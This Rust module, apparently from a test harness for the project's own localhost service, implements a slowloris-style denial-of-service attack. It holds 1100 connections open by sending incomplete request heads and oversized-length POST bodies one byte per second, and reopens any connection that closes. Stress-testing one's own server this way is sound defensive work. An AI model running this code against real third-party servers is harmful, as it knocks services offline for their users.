//! Requests that never end: heads and bodies that arrive a byte at a time.

use super::attacker::Attacker;
use crate::{ClientError, http};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// How many connections send at the same time, all from one address.
const CONNECTIONS: usize = 1100;

/// The time between two bytes, and before a closed connection is opened again.
const INTERVAL: Duration = Duration::from_secs(1);

const HEAD: &str = "GET /api/games HTTP/1.1\r\nHost: localhost\r\nX-Padding: a";
const BODY: &str = "POST /api/guests HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n\
                    Content-Length: 9999\r\n\r\n{\"name\": \"";

pub(super) async fn run(attacker: Attacker) -> Result<(), ClientError> {
    let mut all = JoinSet::new();
    for number in 0..CONNECTIONS {
        let attacker = attacker.clone();
        let beginning = if number % 2 == 0 { HEAD } else { BODY };
        all.spawn(async move {
            loop {
                attacker.tally.tried();
                let _ = attacker.tally.count(trickle(&attacker, beginning).await);
                sleep(INTERVAL).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
    Ok(())
}

/// Sends a request byte by byte until the server ends it.
async fn trickle(attacker: &Attacker, beginning: &str) -> Result<(), ClientError> {
    let mut stream = attacker.endpoint(0).connect().await?;
    stream.write_all(beginning.as_bytes()).await?;
    let mut answer = Vec::new();
    loop {
        match timeout(INTERVAL, stream.read_buf(&mut answer)).await {
            Err(_) => stream.write_all(b"a").await?,
            Ok(Ok(1..)) => {}
            Ok(Ok(0) | Err(_)) if answer.is_empty() => return Err(ClientError::Closed),
            Ok(Ok(0) | Err(_)) => return http::read(&String::from_utf8_lossy(&answer)).map(|_| ()),
        }
    }
}
